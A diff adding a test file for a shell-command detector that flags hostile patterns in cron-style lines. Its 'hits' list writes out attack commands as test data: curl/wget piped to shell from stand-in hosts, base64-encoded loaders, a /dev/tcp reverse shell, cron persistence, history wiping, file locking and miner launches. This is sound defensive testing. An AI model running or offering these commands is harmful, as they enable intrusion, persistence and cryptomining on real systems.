@@ -1,0 +1,117 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import fc from 'fast-check'
+import { readShell, type ShellSign } from './shell-command.ts'
+
+const signs = (text: string): ShellSign[] => [...readShell(text).signs.keys()]
+const encode = (text: string): string => Buffer.from(text).toString('base64')
+
+const hits: readonly (readonly [string, ...ShellSign[]])[] = [
+  ['curl -fsSL http://198.51.100.7/a.sh | sh', 'download-to-shell', 'bare-ip'],
+  ['(curl -fsSL https://pastebin.com/raw/x||wget -q -O- https://pastebin.com/raw/x)|sh', 'download-to-shell', 'paste-site'],
+  ['wget -q -O - http://x.example/i.sh | tr -d "\\r" | sudo bash -s -- a >/dev/null 2>&1', 'download-to-shell'],
+  ['wd1 -q -O- http://198.51.100.7/ldr.sh | bash', 'download-to-shell', 'bare-ip'],
+  ['sh -c "$(curl -fsSL http://x.example/i)"', 'download-to-shell'],
+  ['bash <(wget -qO- http://x.example/i)', 'download-to-shell'],
+  ['eval `curl -s http://x.example/i`', 'download-to-shell'],
+  ['busybox wget -O- http://198.51.100.7/x | ash', 'download-to-shell'],
+  ['cd /tmp; wget http://198.51.100.7/kinsing -O k; chmod +x k; ./k', 'download-and-run'],
+  ['curl http://x.example/b.sh -o /tmp/b.sh && bash /tmp/b.sh', 'download-and-run', 'odd-place'],
+  ['wget http://x.example/run.sh;sh run.sh', 'download-and-run'],
+  [`echo ${encode('curl -s http://198.51.100.7/x | bash')} | base64 -d | sh`, 'decode-to-shell', 'download-to-shell', 'bare-ip'],
+  [
+    `bash -c '{echo,x}|base64 -d|bash'; python3 -c "import base64;exec(base64.b64decode('${encode('import os; os.system("id")')}'))"`,
+    'decode-to-shell',
+  ],
+  ['python -c \'import urllib.request as u;exec(u.urlopen("http://198.51.100.7/x").read())\'', 'download-to-shell', 'bare-ip'],
+  ['perl -e \'use LWP::Simple; system(get("http://h.onion.ws/x"))\'', 'download-to-shell', 'onion'],
+  ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'dev-tcp', 'reverse-shell'],
+  ['exec 3<>/dev/tcp/198.51.100.7/80; cat <&3 | sh', 'dev-tcp'],
+  ['nohup /tmp/.x/kswapd0 >/dev/null 2>&1 &', 'odd-place', 'silent-background'],
+  ["pkill -f kinsing; pkill -f kdevtmpfsi; ps aux|grep -v grep|grep xmrig|awk '{print $2}'|xargs kill -9", 'kills-rivals'],
+  ['chattr +ia /etc/cron.d/x; tntrecht +i /root/.ssh/authorized_keys', 'locks-files'],
+  ['history -c; unset HISTFILE', 'wipes-history'],
+  ['cat /dev/null > /root/.bash_history', 'wipes-history'],
+  ['(crontab -l; echo "* * * * * x") | crontab -', 'installs-persistence'],
+  ['/usr/bin/x -o stratum+tcp://198.51.100.7:3333 -u w -p x', 'starts-miner'],
+]
+for (const [text, ...wanted] of hits) {
+  test(`hit: ${text.slice(0, 60)}`, () => {
+    const found = signs(text)
+    for (const sign of wanted) assert.ok(found.includes(sign), `${sign} not in ${found.join(' ')}`)
+  })
+}
+
+const innocent: readonly (readonly [string, ...ShellSign[]])[] = [
+  ["test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew"],
+  ['curl -fsS https://healthchecks.io/ping >/dev/null', 'download'],
+  ['curl -m 10 --retry 5 https://hc-ping.com/uuid > /dev/null 2>&1', 'download'],
+  ['wget -q -O - https://site.example/cron.php >/dev/null 2>&1', 'download'],
+  ['cd / && run-parts --report /etc/cron.hourly'],
+  ['test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }'],
+  ['/usr/sbin/logrotate /etc/logrotate.conf'],
+  ['[ -x /usr/bin/rkhunter ] && /usr/bin/rkhunter --cronjob --update --quiet'],
+  ['/opt/company/bin/job.sh >/dev/null 2>&1 &', 'silent-background'],
+  ['pg_dump db | gzip > /backup/db.gz && curl -T /backup/db.gz https://store.example/', 'download'],
+  ['curl -s https://api.example/x | python3 -m json.tool', 'download'],
+  ['curl -s https://api.example/x | jq .', 'download'],
+  ['zcat /backup/db.gz | mysql app'],
+  ['curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg', 'download'],
+  ['curl -fsSL https://x.example/key | sudo tee /etc/apt/keyrings/x.asc', 'download'],
+  ['wget https://x.example/a.deb -O /tmp/a.deb && dpkg -i /tmp/a.deb', 'download'],
+  ['command -v debian-sa1 > /dev/null && debian-sa1 1 1'],
+  ['pkill -HUP nginx; rm -f /var/run/x.pid'],
+  ['echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q= | base64 -d > /etc/motd'],
+  ['bash -c "cd /srv/app && npm run cron >> /var/log/cron.log 2>&1"'],
+  ['ssh-keyscan h.example >> ~/.ssh/known_hosts'],
+  ['source /root/.bashrc; . /etc/profile'],
+  ['grep -r "curl http://198.51.100.7/x | sh" /var/log'],
+]
+for (const [text, ...allowed] of innocent) {
+  test(`near miss: ${text.slice(0, 60)}`, () =>
+    assert.deepEqual(
+      signs(text).filter(s => !allowed.includes(s)),
+      [],
+    ))
+}
+
+test('base64 within base64 is followed, but not without end', () => {
+  let text = 'curl http://198.51.100.7/x|sh'
+  for (let i = 0; i < 6; i++) {
+    text = `echo ${encode(text)} | base64 -d | bash`
+    if (i < 2) assert.ok(signs(text).includes('bare-ip'))
+  }
+  assert.ok(signs(text).includes('decode-to-shell'))
+})
+
+test('never throws; every excerpt is short; hostile input is quick', () => {
+  const pieces = fc.constantFrom(
+    'curl ',
+    'http://1.2.3.4/a',
+    '|',
+    'sh',
+    '$(',
+    '`',
+    '"',
+    "'",
+    ' -c ',
+    'base64 -d',
+    '\n',
+    '&',
+    '>',
+    'eval ',
+    'python -c ',
+    ';',
+    'é',
+    '\0',
+  )
+  fc.assert(
+    fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 10 })), { maxLength: 60 }), parts => {
+      for (const excerpt of readShell(parts.join('')).signs.values()) assert.ok(excerpt.length <= 300)
+    }),
+  )
+  const started = performance.now()
+  for (const piece of ['$(curl ', 'a;', 'curl http://1.2.3.4/a|', 'sh -c "', 'base64 -d ', ' AAAA', 'kill xmrig;', '\\x', 'printf \\x'])
+    readShell(piece.repeat((1 << 18) / piece.length))
+  assert.ok(performance.now() - started < 20_000, String(performance.now() - started))
+})
